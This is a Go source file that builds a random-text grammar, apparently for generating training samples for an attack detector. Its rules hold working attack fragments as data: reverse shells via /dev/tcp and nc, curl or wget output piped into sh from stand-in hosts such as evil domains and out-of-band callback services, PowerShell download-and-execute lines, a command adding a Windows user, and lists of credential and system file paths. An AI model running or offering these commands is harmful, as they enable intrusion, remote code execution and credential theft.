package main

import (
	"math/rand/v2"
	"strings"
)

// grammar writes texts: a rule is a list of alternatives, {name} in an
// alternative stands for a text of that rule. The alternatives describe how
// known families of attacks are built, so that a learner sees the structure in
// many wordings and not the few strings that one tool happens to send.
type grammar map[string][]string

// maxDepth bounds nesting; no rule below is recursive beyond it.
const maxDepth = 12

func (g grammar) write(r *rand.Rand, rule string) string {
	var b strings.Builder
	g.expand(&b, r, rule, 0)
	return b.String()
}

func (g grammar) expand(b *strings.Builder, r *rand.Rand, rule string, depth int) {
	alternatives := g[rule]
	if len(alternatives) == 0 || depth > maxDepth {
		b.WriteString("{" + rule + "}") // a brace of the payload itself
		return
	}
	text := alternatives[r.IntN(len(alternatives))]
	for {
		from := strings.IndexByte(text, '{')
		if from < 0 {
			break
		}
		to := strings.IndexByte(text[from:], '}')
		if to < 0 {
			break
		}
		name := text[from+1 : from+to]
		if _, ok := g[name]; !ok { // not a rule: literal
			b.WriteString(text[:from+1])
			text = text[from+1:]
			continue
		}
		b.WriteString(text[:from])
		g.expand(b, r, name, depth+1)
		text = text[from+to+1:]
	}
	b.WriteString(text)
}

// shared are rules that several classes use.
var shared = grammar{
	"d":     {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"},
	"num":   {"{d}", "{d}{d}", "{d}{d}{d}", "1{d}{d}{d}", "-{d}"},
	"c":     {"a", "b", "c", "d", "e", "f", "g", "h", "i", "k", "l", "m", "n", "o", "p", "r", "s", "t", "u", "v", "w", "x", "z"},
	"word":  {"{c}{c}{c}", "{c}{c}{c}{c}{c}", "{c}{c}{c}{c}{c}{c}{c}", "admin", "test", "user", "id", "name", "item", "data", "page"},
	"ip":    {"10.{oct}.{oct}.{oct}", "192.168.{oct}.{oct}", "{oct}.{oct}.{oct}.{oct}", "127.0.0.1"},
	"oct":   {"{d}", "1{d}{d}", "2{d}", "9{d}"},
	"host":  {"{ip}", "{word}.{word}.com", "{word}.{tld}", "evil.{tld}", "{word}.oast.fun", "{word}.dnslog.cn", "{word}.burpcollaborator.net", "{word}.interact.sh"},
	"tld":   {"com", "net", "org", "ru", "cn", "xyz", "top", "info"},
	"port":  {"", ":80{d}{d}", ":4444", ":1389", ":9001", ":{d}{d}{d}{d}"},
	"unix":  {"id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la", "ls -la /", "pwd", "ps aux", "netstat -an", "ifconfig", "env", "cat /proc/self/environ", "sleep {num}", "ping -c {d} {host}", "nslookup {host}", "curl http://{host}{port}/{word}", "wget http://{host}{port}/{word}.sh -O /tmp/{word}", "wget -qO- http://{host}{port}/{word}.sh | sh", "curl -s http://{host}/{word} | bash", "bash -i >& /dev/tcp/{ip}/{num} 0>&1", "nc -e /bin/sh {ip} {num}", "nc {ip} {num} -e /bin/bash", "rm -rf /tmp/*; wget http://{host}/{word}; chmod 777 {word}; ./{word}", "echo {word}{num}", "expr {num} + {num}", "python -c 'import os;os.system(\"id\")'", "perl -e 'print {num}'", "/bin/cat /etc/passwd", "/usr/bin/id", "c''at /etc/pass''wd", "cat$IFS/etc/passwd", "cat${IFS}/etc/passwd", "echo {word}|base64 -d|sh", "head -n1 /etc/hosts", "tail /var/log/auth.log", "find / -name {word}", "touch /tmp/{word}", "which {word}", "export", "busybox wget http://{host}/{word}"},
	"win":   {"dir", "dir c:\\", "whoami", "type c:\\windows\\win.ini", "type %SYSTEMROOT%\\win.ini", "ipconfig /all", "net user", "net user {word} {word}{num} /add", "ping -n {num} {host}", "powershell -c whoami", "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{host}/{word}.ps1')\"", "powershell -enc {b64}", "certutil -urlcache -split -f http://{host}/{word}.exe", "cmd /c {word}", "cmd.exe /c dir", "systeminfo", "tasklist", "echo %USERNAME%", "set", "ver", "timeout {num}"},
	"b64":   {"{b8}{b8}{b8}{b8}", "{b8}{b8}{b8}{b8}{b8}{b8}=="},
	"b8":    {"SQBFAFgA", "KABOAGUA", "dwAtAE8A", "aWQ7d2hv", "YmFzaCAt", "Y3VybCBo", "cm9vdDp4"},
	"unixf": {"etc/passwd", "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "etc/hostname", "etc/ssh/sshd_config", "proc/self/environ", "proc/version", "proc/self/cmdline", "proc/self/status", "var/log/auth.log", "var/log/apache2/access.log", "var/log/nginx/error.log", "var/www/html/config.php", "root/.ssh/id_rsa", "root/.bash_history", "home/{word}/.ssh/id_rsa", "home/{word}/.aws/credentials", "usr/local/apache/conf/httpd.conf", "etc/nginx/nginx.conf", "etc/mysql/my.cnf", "etc/crontab", "opt/{word}/conf/server.xml"},
	"winf":  {"windows/win.ini", "windows\\win.ini", "winnt/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "windows\\system32\\drivers\\etc\\hosts", "windows/system32/config/sam", "inetpub/wwwroot/web.config", "windows/repair/sam", "xampp/apache/conf/httpd.conf", "users/administrator/desktop/{word}.txt", "windows/php.ini"},
	"appf":  {"WEB-INF/web.xml", "web.config", "config.php", "wp-config.php", ".env", "application.properties", "META-INF/MANIFEST.MF", "{word}.php", "{word}.jsp", "{word}.conf", "index.php", "database.yml", "settings.py", "package.json", ".git/config", ".htpasswd"},
}

func with(more grammar) grammar {
	g := grammar{}
	for k, v := range shared {
		g[k] = v
	}
	for k, v := range more {
		g[k] = v
	}
	return g
}
